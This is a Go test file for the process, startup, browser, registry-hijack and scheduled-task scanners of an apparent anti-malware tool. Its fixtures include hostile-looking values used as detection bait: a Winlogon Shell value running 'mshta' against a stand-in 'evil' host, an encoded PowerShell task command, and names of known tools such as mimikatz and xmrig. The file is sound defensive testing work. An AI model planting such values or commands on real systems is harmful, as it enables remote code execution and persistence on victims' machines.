package scanners

import (
	"context"
	"os"
	"path/filepath"
	"testing"

	"github.com/TommyTiptoes/Atlas-Ai-sub004/internal/core"
	"github.com/TommyTiptoes/Atlas-Ai-sub004/internal/platform"
	"github.com/TommyTiptoes/Atlas-Ai-sub004/internal/platform/platformtest"
	"github.com/TommyTiptoes/Atlas-Ai-sub004/internal/signatures"
)

func TestProcessScannerFlagsKnownNames(t *testing.T) {
	probe := &platformtest.FakeProbe{
		Processes: []platform.Process{
			{PID: 100, Name: "notepad.exe", ExePath: `C:\Windows\notepad.exe`},
			{PID: 200, Name: "xmrig.exe", ExePath: `C:\Users\x\xmrig.exe`},
			{PID: 300, Name: "MIMIKATZ.EXE", ExePath: `C:\tools\mimikatz.exe`},
		},
	}
	s := &ProcessScanner{Probe: probe, Sigs: signatures.NewStore()}

	threats, err := s.Run(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	if len(threats) != 2 {
		t.Fatalf("threats = %d, want 2: %+v", len(threats), threats)
	}
	for _, th := range threats {
		if th.Severity != core.SeverityCritical {
			t.Errorf("%s severity = %q, want critical", th.Name, th.Severity)
		}
		if th.ProcessID == 0 {
			t.Errorf("%s missing pid", th.Name)
		}
		if th.Tag != "known_process" {
			t.Errorf("%s tag = %q", th.Name, th.Tag)
		}
	}
}

func TestStartupScannerMatchesNameAndContent(t *testing.T) {
	const runKey = `SOFTWARE\Microsoft\Windows\CurrentVersion\Run`
	probe := &platformtest.FakeProbe{}
	// Suspicious value name in HKCU, suspicious content in HKLM.
	probe.SetRegistryValue(platform.HiveCurrentUser, runKey, "keylogger", `C:\Users\x\app.exe`)
	probe.SetRegistryValue(platform.HiveLocalMachine, runKey, "Updater", `C:\Users\x\stealer.exe`)
	probe.SetRegistryValue(platform.HiveLocalMachine, runKey, "OneDrive", `C:\Program Files\OneDrive.exe`)

	s := &StartupScanner{Probe: probe, Sigs: signatures.NewStore()}
	threats, err := s.Run(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	if len(threats) != 2 {
		t.Fatalf("threats = %d, want 2: %+v", len(threats), threats)
	}
	for _, th := range threats {
		if th.Category != core.CategoryStartup {
			t.Errorf("category = %q", th.Category)
		}
		if th.Severity != core.SeverityHigh {
			t.Errorf("%s severity = %q, want high", th.Name, th.Severity)
		}
	}
}

func TestStartupScannerMissingKeysSkipped(t *testing.T) {
	s := &StartupScanner{Probe: &platformtest.FakeProbe{}, Sigs: signatures.NewStore()}
	threats, err := s.Run(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	if len(threats) != 0 {
		t.Fatalf("threats = %+v, want none", threats)
	}
}

func TestBrowserScannerKnownExtensionName(t *testing.T) {
	root := t.TempDir()
	if err := os.MkdirAll(filepath.Join(root, "searchprotect-helper"), 0755); err != nil {
		t.Fatal(err)
	}
	if err := os.MkdirAll(filepath.Join(root, "ublock"), 0755); err != nil {
		t.Fatal(err)
	}

	s := &BrowserScanner{Sigs: signatures.NewStore(), ChromiumRoots: []string{root}, GeckoRoots: []string{filepath.Join(root, "no-profiles")}}
	threats, err := s.Run(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	if len(threats) != 1 {
		t.Fatalf("threats = %d, want 1: %+v", len(threats), threats)
	}
	th := threats[0]
	if th.Tag != "known_extension" {
		t.Fatalf("tag = %q", th.Tag)
	}
	if th.Removable {
		t.Fatal("extension findings must not be auto-removable")
	}
}

func TestBrowserScannerManifestAdwareMarker(t *testing.T) {
	root := t.TempDir()
	// Chromium layout: store/extensionid/version/manifest.json.
	verDir := filepath.Join(root, "abcdefgh", "1.0.0")
	if err := os.MkdirAll(verDir, 0755); err != nil {
		t.Fatal(err)
	}
	manifest := `{"name": "Helpful Deals", "description": "PricePeep price comparison"}`
	if err := os.WriteFile(filepath.Join(verDir, "manifest.json"), []byte(manifest), 0644); err != nil {
		t.Fatal(err)
	}

	visited := 0
	s := &BrowserScanner{
		Sigs:          signatures.NewStore(),
		ChromiumRoots: []string{root},
		GeckoRoots:    []string{filepath.Join(root, "no-profiles")},
		Visited:       func() { visited++ },
	}
	threats, err := s.Run(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	if len(threats) != 1 {
		t.Fatalf("threats = %d, want 1: %+v", len(threats), threats)
	}
	if threats[0].Tag != "adware_marker" {
		t.Fatalf("tag = %q", threats[0].Tag)
	}
	if visited != 1 {
		t.Fatalf("visited = %d, want 1", visited)
	}
}

func TestHijackScannerMatchesValueContent(t *testing.T) {
	const winlogon = `SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon`
	probe := &platformtest.FakeProbe{}
	probe.SetRegistryValue(platform.HiveLocalMachine, winlogon, "Shell", `explorer.exe, mshta http://evil/x.hta`)
	probe.SetRegistryValue(platform.HiveLocalMachine, winlogon, "Userinit", `C:\Windows\system32\userinit.exe,`)

	s := &HijackScanner{Probe: probe, Sigs: signatures.NewStore()}
	threats, err := s.Run(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	if len(threats) != 1 {
		t.Fatalf("threats = %d, want 1: %+v", len(threats), threats)
	}
	if threats[0].Name != "Shell" || threats[0].Tag != "registry_hijack" {
		t.Fatalf("unexpected finding: %+v", threats[0])
	}
}

func TestTaskScannerMatchesDefinitionContent(t *testing.T) {
	dir := t.TempDir()
	bad := filepath.Join(dir, "UpdateCheck")
	good := filepath.Join(dir, "Backup")
	if err := os.WriteFile(bad, []byte(`<Exec><Command>powershell -enc SQBFAFgA</Command></Exec>`), 0644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(good, []byte(`<Exec><Command>C:\Tools\backup.exe</Command></Exec>`), 0644); err != nil {
		t.Fatal(err)
	}

	visited := 0
	s := &TaskScanner{
		Probe:   &platformtest.FakeProbe{TaskFiles: []string{bad, good}},
		Sigs:    signatures.NewStore(),
		Visited: func() { visited++ },
	}
	threats, err := s.Run(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	if len(threats) != 1 {
		t.Fatalf("threats = %d, want 1: %+v", len(threats), threats)
	}
	if threats[0].Name != "UpdateCheck" {
		t.Fatalf("name = %q", threats[0].Name)
	}
	if visited != 2 {
		t.Fatalf("visited = %d, want 2", visited)
	}
}

func TestTaskScannerSkipsUnreadableFiles(t *testing.T) {
	s := &TaskScanner{
		Probe: &platformtest.FakeProbe{TaskFiles: []string{filepath.Join(t.TempDir(), "missing")}},
		Sigs:  signatures.NewStore(),
	}
	threats, err := s.Run(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	if len(threats) != 0 {
		t.Fatalf("threats = %+v, want none", threats)
	}
}
